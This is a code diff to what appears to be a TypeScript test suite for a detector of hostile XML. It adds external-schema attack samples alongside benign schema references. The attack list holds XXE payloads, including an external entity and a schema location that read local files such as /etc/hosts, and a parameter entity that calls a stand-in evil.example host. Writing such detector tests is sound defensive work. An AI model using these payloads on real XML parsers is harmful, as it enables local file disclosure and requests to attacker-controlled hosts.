@@ -7,6 +7,12 @@ const score = (text: string, layers = 0): number =>
 
 const attacks: readonly [what: string, ...texts: string[]][] = [
   [
+    'a schema from another site',
+    '<a xsi:schemaLocation="http://a.example/ http://b.example/c">7</a>',
+    '<xs:include namespace="a" schemaLocation="http://b.example/"/>',
+    '<a xsi:noNamespaceSchemaLocation="file:///etc/hosts"/>',
+  ],
+  [
     'an entity',
     '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a>&b;</a>',
     '<!ENTITY % b PUBLIC "x" "http://evil.example/">',
@@ -41,6 +47,11 @@ const attacks: readonly [what: string, ...texts: string[]][] = [
 ]
 
 const honest: readonly [what: string, ...texts: string[]][] = [
+  [
+    'a schema by its file',
+    '<project xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd">',
+    '<xs:import namespace="urn:a" schemaLocation="types.xsd"/>',
+  ],
   [
     'a document type by its public name, or beside the document',
     '<!DOCTYPE html><html lang="en"></html>',
